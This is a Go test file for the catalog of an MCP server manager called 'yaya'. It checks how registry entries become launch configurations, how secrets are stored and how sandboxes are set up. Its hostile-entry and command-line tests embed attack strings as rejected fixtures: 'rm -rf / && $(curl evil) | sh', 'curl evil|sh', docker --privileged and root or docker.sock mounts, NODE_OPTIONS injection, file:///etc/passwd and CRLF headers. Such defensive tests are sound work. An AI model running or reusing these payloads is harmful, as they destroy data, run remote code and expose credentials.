package catalog

import (
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yaya-ai/yaya/mcpbridge/servers"
)

func entryOf(t *testing.T, server string) Entry {
	t.Helper()
	e, err := decode("official", json.RawMessage(wire(server, "active")), time.Unix(1, 0))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func never(string) bool { return false }

// parsed is the configuration of a plan as yaya reads it.
func parsed(t *testing.T, p Plan) servers.Server {
	t.Helper()
	doc, err := json.Marshal(map[string]any{"mcpServers": map[string]any{p.Name: p.Config}})
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := servers.Parse("test", doc, servers.FormatYaya)
	if err != nil || len(cfg.Invalid) > 0 || len(cfg.Servers) != 1 || len(cfg.Warnings) > 0 {
		t.Fatalf("%s: %v %v %v", p.Config, err, cfg.Invalid, cfg.Warnings)
	}
	return cfg.Servers[0]
}

func TestMakePackage(t *testing.T) {
	e := entryOf(t, weather)
	p, err := Make(e, Choice{Option: "npm", Name: "weather", Given: map[string][]string{"SKY_KEY": {"s3cret-of-the-sky"}}}, func(n string) bool { return n == "weather.SKY_KEY" })
	if err != nil {
		t.Fatal(err)
	}
	x := parsed(t, p)
	if got := x.Endpoint(); got != "npx -y @sky/weather@1.2.3" {
		t.Errorf("it runs %s", got)
	}
	if strings.Contains(string(p.Config), "s3cret") || x.Env["SKY_KEY"] != "${secret:weather.SKY_KEY.2}" || p.Secrets["weather.SKY_KEY.2"] != "s3cret-of-the-sky" {
		t.Errorf("config %s, secrets %v: the value belongs in the store, under a free name", p.Config, slices.Collect(maps.Keys(p.Secrets)))
	}
	if x.Env["UNITS"] != "metric" || x.Sandbox == nil || x.Sandbox.Profile != servers.SandboxServer {
		t.Errorf("env %v, sandbox %+v", x.Env, x.Sandbox)
	}
	if want := (servers.Origin{Registry: "official", Name: "io.github.sky/weather", Version: "1.2.3", Package: "npm"}); x.Catalog == nil || *x.Catalog != want {
		t.Errorf("origin %+v, want %+v", x.Catalog, want)
	}
}

func TestMakeRemote(t *testing.T) {
	p, err := Make(entryOf(t, weather), Choice{Option: "remote", Name: "weather", Given: map[string][]string{"token": {"s3cret-of-the-sky"}}}, never)
	if err != nil {
		t.Fatal(err)
	}
	x := parsed(t, p)
	if x.Transport != servers.HTTP || x.URL != "https://sky.example.com/mcp" || x.Headers["Authorization"] != "Bearer ${secret:weather.token}" || x.Sandbox != nil {
		t.Errorf("server %+v", x)
	}
}

func TestMakeAsks(t *testing.T) {
	e := entryOf(t, weather)
	for name, c := range map[string]Choice{
		"a missing value":    {Option: "npm", Name: "w"},
		"another choice":     {Option: "npm", Name: "w", Given: map[string][]string{"SKY_KEY": {"12345678"}, "UNITS": {"kelvin"}}},
		"an unknown input":   {Option: "npm", Name: "w", Given: map[string][]string{"SKY_KEY": {"12345678"}, "PATH": {"/tmp"}}},
		"two values":         {Option: "npm", Name: "w", Given: map[string][]string{"SKY_KEY": {"12345678", "87654321"}}},
		"an unknown option":  {Option: "pypi", Name: "w"},
		"an unknown profile": {Option: "npm", Name: "w", Profile: "off", Given: map[string][]string{"SKY_KEY": {"12345678"}}},
		"hosts of a remote":  {Option: "remote", Name: "w", Hosts: []string{"a.example"}, Given: map[string][]string{"token": {"12345678"}}},
		"control characters": {Option: "npm", Name: "w", Given: map[string][]string{"SKY_KEY": {"1234\n5678"}}},
	} {
		if p, err := Make(e, c, never); err == nil {
			t.Errorf("%s: %s", name, p.Config)
		} else if strings.Contains(err.Error(), "12345678") {
			t.Errorf("%s: the error has the secret: %v", name, err)
		}
	}
}

// Each entry of yaya's own list becomes a configuration that yaya reads.
func TestBundledEntries(t *testing.T) {
	if n := len(bundled()); n < 60 {
		t.Errorf("%d entries", n)
	}
	dir := t.TempDir()
	seen := map[string]bool{}
	for _, e := range bundled() {
		if seen[e.Server.Name] {
			t.Errorf("%s is there twice", e.Server.Name)
		}
		seen[e.Server.Name] = true
		for _, o := range e.Options() {
			if o.Refused != "" {
				t.Errorf("%s %s: %s", e.Server.Name, o.ID, o.Refused)
				continue
			}
			given := map[string][]string{}
			for _, a := range o.Inputs {
				switch {
				case !a.Required:
				case a.Format == "filepath":
					given[a.Name] = []string{dir}
				default:
					given[a.Name] = []string{"https://example.com"}
				}
			}
			p, err := Make(e, Choice{Option: o.ID, Name: e.ShortName(), Given: given}, never)
			if err != nil {
				t.Errorf("%s %s: %v", e.Server.Name, o.ID, err)
				continue
			}
			parsed(t, p)
		}
	}
}

func TestCommandLines(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "f")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		packages string
		given    map[string][]string
		want     string
		sandbox  servers.Sandbox
	}{
		"pypi": {`{"registryType":"pypi","identifier":"mcp_weather","version":"1.0.0","runtimeHint":"sh","runtimeArguments":[{"type":"named","name":"--python","value":"3.12"}],"packageArguments":[{"type":"named","name":"--units","default":"metric"},{"type":"named","name":"--fast"}]}`, nil, "uvx --python 3.12 mcp_weather==1.0.0 --units metric --fast", servers.Sandbox{}},
		"docker": {`{"registryType":"oci","registryBaseUrl":"https://ghcr.io","identifier":"sky/weather","version":"1.0.0","environmentVariables":[{"name":"KEY","isSecret":true,"isRequired":true}],"runtimeArguments":[{"type":"positional","value":"run"},{"type":"positional","value":"-i"},{"type":"named","name":"-e","value":"MODE={mode}","variables":{"mode":{"default":"a"}}},{"type":"named","name":"--mount","value":"type=bind,src={source},dst=/data","variables":{"source":{"isRequired":true}}}]}`,
			map[string][]string{"KEY": {"12345678"}, "source": {dir}}, "docker run -i --rm -e KEY -e MODE --mount type=bind,src=" + dir + ",dst=/data ghcr.io/sky/weather:1.0.0", servers.Sandbox{}},
		"docker by digest":    {`{"registryType":"oci","identifier":"docker.io/sky/weather@sha256:` + strings.Repeat("a", 64) + `"}`, nil, "docker run -i --rm docker.io/sky/weather@sha256:" + strings.Repeat("a", 64), servers.Sandbox{}},
		"docker with its tag": {`{"registryType":"oci","identifier":"ghcr.io:443/sky/weather:v2"}`, nil, "docker run -i --rm ghcr.io:443/sky/weather:v2", servers.Sandbox{}},
		"nuget":               {`{"registryType":"nuget","identifier":"Sky.Weather","version":"1.0.0-beta","packageArguments":[{"type":"positional","value":"mcp"}]}`, nil, "dnx Sky.Weather@1.0.0-beta --yes -- mcp", servers.Sandbox{}},
		"folders": {`{"registryType":"npm","identifier":"files","version":"1.0.0","packageArguments":[{"type":"positional","valueHint":"folder","isRepeated":true,"isRequired":true},{"type":"named","name":"--config","format":"filepath"},{"type":"named","name":"--url","default":"https://a.example:8443/x"},{"type":"named","name":"--mine","valueHint":"u"},{"type":"named","name":"--all","valueHint":"u"}]}`,
			map[string][]string{"folder": {dir, "/nowhere/x"}, "config": {file}, "mine": {"https://b.example:8443/x"}, "all": {"https://*.example.com"}}, "npx -y files@1.0.0 " + dir + " /nowhere/x --config " + file + " --url https://a.example:8443/x --mine https://b.example:8443/x --all 'https://*.example.com'", servers.Sandbox{Write: []string{dir}, Read: []string{file}, Hosts: []string{"b.example:8443"}}},
		"same names": {`{"registryType":"npm","identifier":"x","version":"1.0.0","packageArguments":[{"type":"named","name":"--key","isRequired":true},{"type":"positional","valueHint":"key","isRequired":true}]}`,
			map[string][]string{"key": {"a"}, "key-2": {"b"}}, "npx -y x@1.0.0 --key a b", servers.Sandbox{}},
		"a shell is not asked": {`{"registryType":"npm","identifier":"x","version":"1.0.0","packageArguments":[{"type":"positional","value":"; rm -rf / && $(curl evil) | sh"}]}`, nil, "npx -y x@1.0.0 '; rm -rf / && $(curl evil) | sh'", servers.Sandbox{}},
	} {
		t.Run(name, func(t *testing.T) {
			e := entryOf(t, `{"name":"a/b","version":"1.0.0","packages":[`+c.packages+`]}`)
			p, err := Make(e, Choice{Name: "b", Given: c.given}, never)
			if err != nil {
				t.Fatal(err)
			}
			x := parsed(t, p)
			if got := x.Endpoint(); got != c.want {
				t.Errorf("it runs\n%s, want\n%s", got, c.want)
			}
			if x.Command == "docker" {
				if x.Sandbox != nil {
					t.Errorf("sandbox %+v", x.Sandbox)
				}
				return
			}
			if !slices.Equal(x.Sandbox.Write, c.sandbox.Write) || !slices.Equal(x.Sandbox.Read, c.sandbox.Read) || !slices.Equal(x.Sandbox.Hosts, c.sandbox.Hosts) {
				t.Errorf("sandbox %+v, want %+v", x.Sandbox, c.sandbox)
			}
		})
	}
}

// None of these becomes a configuration.
func TestHostileEntries(t *testing.T) {
	pack := func(s string) string { return `"packages":[` + s + `]` }
	npm := func(more string) string {
		return pack(`{"registryType":"npm","identifier":"x","version":"1.0.0",` + more + `}`)
	}
	oci := func(more string) string {
		return pack(`{"registryType":"oci","identifier":"sky/x","version":"1.0.0","runtimeArguments":[` + more + `]}`)
	}
	remote := func(s string) string { return `"remotes":[` + s + `]` }
	for name, body := range map[string]string{
		"unknown registryType":      pack(`{"registryType":"brew","identifier":"x","version":"1.0.0"}`),
		"a flag as a package":       pack(`{"registryType":"npm","identifier":"--registry=http://evil","version":"1.0.0"}`),
		"a path as a package":       pack(`{"registryType":"npm","identifier":"../x","version":"1.0.0"}`),
		"a URL as a package":        pack(`{"registryType":"npm","identifier":"https://evil.example/x.tgz","version":"1.0.0"}`),
		"a git package":             pack(`{"registryType":"pypi","identifier":"git+https://evil.example/x","version":"1.0.0"}`),
		"a range":                   pack(`{"registryType":"npm","identifier":"x","version":"^1.0.0"}`),
		"a word as a version":       pack(`{"registryType":"npm","identifier":"x","version":"next"}`),
		"a part of a version":       pack(`{"registryType":"npm","identifier":"x","version":"1.x"}`),
		"a wildcard":                pack(`{"registryType":"nuget","identifier":"x","version":"x"}`),
		"whom node trusts":          npm(`"environmentVariables":[{"name":"NODE_TLS_REJECT_UNAUTHORIZED","value":"0"}]`),
		"what podman does":          npm(`"environmentVariables":[{"name":"CONTAINERS_CONF_OVERRIDE","value":"/tmp/x"}]`),
		"a bundle not fetched":      pack(`{"registryType":"mcpb","identifier":"https://example.com/x.mcpb","fileSha256":"` + strings.Repeat("a", 64) + `"}`),
		"latest":                    pack(`{"registryType":"npm","identifier":"x","version":"latest"}`),
		"no version":                pack(`{"registryType":"pypi","identifier":"x"}`),
		"a version with a space":    pack(`{"registryType":"npm","identifier":"x","version":"1.0.0 --evil"}`),
		"an image without a tag":    pack(`{"registryType":"oci","identifier":"sky/x"}`),
		"the newest image":          pack(`{"registryType":"oci","identifier":"sky/x:latest"}`),
		"a flag as an image":        pack(`{"registryType":"oci","identifier":"--privileged","version":"1.0.0"}`),
		"another registry":          pack(`{"registryType":"npm","registryBaseUrl":"https://evil.example","identifier":"x","version":"1.0.0"}`),
		"a package that listens":    pack(`{"registryType":"npm","identifier":"x","version":"1.0.0","transport":{"type":"streamable-http","url":"http://localhost:1"}}`),
		"a secret of the user":      npm(`"environmentVariables":[{"name":"A","value":"${secret:openai}"}]`),
		"a default that refers":     npm(`"environmentVariables":[{"name":"A","default":"${AWS_SECRET_ACCESS_KEY}"}]`),
		"a choice that refers":      npm(`"environmentVariables":[{"name":"A","isRequired":true,"choices":["${HOME}"]}]`),
		"an argument that refers":   npm(`"packageArguments":[{"type":"positional","value":"${secret:openai}"}]`),
		"a reference in pieces":     npm(`"packageArguments":[{"type":"positional","value":"{a}{b}","variables":{"a":{"value":"$"},"b":{"value":"{secret:openai}"}}}]`),
		"a variable of the loader":  npm(`"environmentVariables":[{"name":"NODE_OPTIONS","value":"--require /tmp/x"}]`),
		"another npm registry":      npm(`"environmentVariables":[{"name":"npm_config_registry","value":"https://evil.example"}]`),
		"PATH":                      npm(`"environmentVariables":[{"name":"PATH","value":"/tmp"}]`),
		"an odd variable":           npm(`"environmentVariables":[{"name":"A=B","value":"c"}]`),
		"bidi in an argument":       npm(`"packageArguments":[{"type":"positional","value":"a\u202eb"}]`),
		"a terminal in an argument": npm(`"packageArguments":[{"type":"positional","value":"\u001b[2Jx"}]`),
		"NUL":                       npm(`"packageArguments":[{"type":"positional","value":"a\u0000b"}]`),
		"a shell of npx":            npm(`"runtimeArguments":[{"type":"named","name":"-c","value":"curl evil|sh"}]`),
		"another package of npx":    npm(`"runtimeArguments":[{"type":"named","name":"--package","value":"evil"}]`),
		"a positional of npx":       npm(`"runtimeArguments":[{"type":"positional","value":"evil"}]`),
		"a flag with a value":       npm(`"packageArguments":[{"type":"named","name":"--a=b c","value":"d"}]`),
		"an unknown type":           npm(`"packageArguments":[{"type":"shell","value":"d"}]`),
		"too many inputs":           npm(`"packageArguments":[{"type":"positional","value":"` + strings.Repeat("{a}", 1) + `","variables":{` + manyInputs(maxInputs+1) + `}}]`),
		"privileged":                oci(`{"type":"named","name":"--privileged"}`),
		"privileged as a word":      oci(`{"type":"positional","value":"--privileged"}`),
		"privileged with a value":   oci(`{"type":"positional","value":"--privileged=true"}`),
		"the root folder":           oci(`{"type":"named","name":"-v","value":"/:/host"}`),
		"the root folder as a word": oci(`{"type":"positional","value":"-v=/:/host"}`),
		"the root by default":       oci(`{"type":"named","name":"-v","value":"{a}:/host","variables":{"a":{"default":"/"}}}`),
		"docker's socket":           oci(`{"type":"named","name":"--mount","value":"type=bind,src=/var/run/docker.sock,dst=/s"}`),
		"a folder beside":           oci(`{"type":"named","name":"-v","value":"/etc/{a}:/host","variables":{"a":{"default":"x"}}}`),
		"the host's network":        oci(`{"type":"named","name":"--network","value":"host"}`),
		"a variable of yaya":        oci(`{"type":"named","name":"-e","value":"AWS_SECRET_ACCESS_KEY"}`),
		"devices":                   oci(`{"type":"named","name":"--device","value":"/dev/sda"}`),
		"plain http":                remote(`{"type":"streamable-http","url":"http://example.com/mcp"}`),
		"a file":                    remote(`{"type":"streamable-http","url":"file:///etc/passwd"}`),
		"a password":                remote(`{"type":"streamable-http","url":"https://a:b@example.com/mcp"}`),
		"a secret in the address":   remote(`{"type":"streamable-http","url":"https://example.com/${secret:openai}"}`),
		"an odd header":             remote(`{"type":"sse","url":"https://example.com/","headers":[{"name":"A\r\nB","value":"c"}]}`),
		"the host header":           remote(`{"type":"sse","url":"https://example.com/","headers":[{"name":"Host","value":"evil.example"}]}`),
		"a secret in a header":      remote(`{"type":"sse","url":"https://example.com/","headers":[{"name":"A","value":"${secret:openai}"}]}`),
		"an unknown transport":      remote(`{"type":"ws","url":"https://example.com/"}`),
		"nothing":                   `"title":"x"`,
		"a bundle without a sum":    pack(`{"registryType":"mcpb","identifier":"https://example.com/x.mcpb"}`),
	} {
		t.Run(name, func(t *testing.T) {
			e := entryOf(t, `{"name":"a/b","version":"1.0.0",`+body+`}`)
			p, err := Make(e, Choice{Name: "b"}, never)
			if err == nil {
				t.Errorf("it becomes %s", p.Config)
			} else if Odd(err.Error()) {
				t.Errorf("the error shows control characters: %q", err)
			}
		})
	}
}

func manyInputs(n int) string {
	var out []string
	for i := range n {
		out = append(out, `"v`+strings.Repeat("x", i)+`":{}`)
	}
	return strings.Join(out, ",")
}

func TestDeleted(t *testing.T) {
	e := entryOf(t, weather)
	e.Status = Deleted
	if _, err := Make(e, Choice{Option: "remote", Name: "w", Given: map[string][]string{"token": {"12345678"}}}, never); err == nil {
		t.Error("a deleted entry was taken")
	}
	e.Status = Deprecated
	p, err := Make(e, Choice{Option: "remote", Name: "w", Given: map[string][]string{"token": {"12345678"}}}, never)
	if err != nil || !slices.ContainsFunc(p.Notes, func(n string) bool { return strings.Contains(n, "no longer maintains") }) {
		t.Errorf("notes %q, %v", p.Notes, err)
	}
}

// A remote in a private network says so.
func TestPrivateRemote(t *testing.T) {
	for address, private := range map[string]bool{
		"https://sky.example.com/mcp": false, "https://10.0.0.1/mcp": true, "https://0x7f000001/": true, "http://localhost:80/": true, "https://printer/": true,
		"https://169.254.169.254/latest": true, "https://[::1]/": true,
		"https://foo.local/": true, "https://Metadata.Google.Internal/": true, "https://printer./": true, "https://x.home.arpa:8443/": true, "https://x.localhost/": true,
		"https://internal.example.com/": false, "https://local.example/": false, "https://1.1.1.1/": false, "https://[2606:4700::1111]/": false,
	} {
		p, err := Make(entryOf(t, `{"name":"a/b","version":"1.0.0","remotes":[{"type":"sse","url":"`+address+`"}]}`), Choice{Name: "b"}, never)
		if err != nil {
			t.Errorf("%s: %v", address, err)
			continue
		}
		if got := slices.ContainsFunc(p.Notes, func(n string) bool { return strings.Contains(n, "your own network") }); got != private {
			t.Errorf("%s: notes %q", address, p.Notes)
		}
	}
	for address, want := range map[string]string{"https://169.254.169.254/": "its address 169.254.169.254 is", "https://10.0.0.1:8443/": "its address 10.0.0.1:8443 is", "https://[::1]/": "its address [::1] is"} {
		p, err := Make(entryOf(t, `{"name":"a/b","version":"1.0.0","remotes":[{"type":"sse","url":"`+address+`"}]}`), Choice{Name: "b"}, never)
		if err != nil || !noted(p.Notes, want) {
			t.Errorf("the notes about %s are %q, %v, want %q", address, p.Notes, err, want)
		}
	}
}

func TestShortName(t *testing.T) {
	for name, want := range map[string]string{"io.github.sky/weather-mcp": "weather", "a/mcp-server-git": "git", "com.sky/mcp": "sky", "a/server": "server", "bundled/github": "github", "a/-mcp-": "a"} {
		e := Entry{Server: Server{Name: name}}
		if got := e.ShortName(); got != want {
			t.Errorf("ShortName(%q) = %q, want %q", name, got, want)
		}
	}
}

func TestRunnersSayHowToInstall(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	for kind, r := range runners {
		if r.Found() || r.Install() == "" || r.Needs == "" {
			t.Errorf("%s: found %v, %q", kind, r.Found(), r.Install())
		}
	}
	p, err := Make(entryOf(t, weather), Choice{Option: "npm", Name: "w", Given: map[string][]string{"SKY_KEY": {"12345678"}}}, never)
	if err != nil || !slices.ContainsFunc(p.Notes, func(n string) bool { return strings.Contains(n, "Node.js") }) {
		t.Errorf("notes %q, %v", p.Notes, err)
	}
	e := entryOf(t, weather)
	if o, err := e.Pick(""); err != nil || o.ID != "remote" {
		t.Errorf("without npx it picks %q, %v", o.ID, err)
	}
}
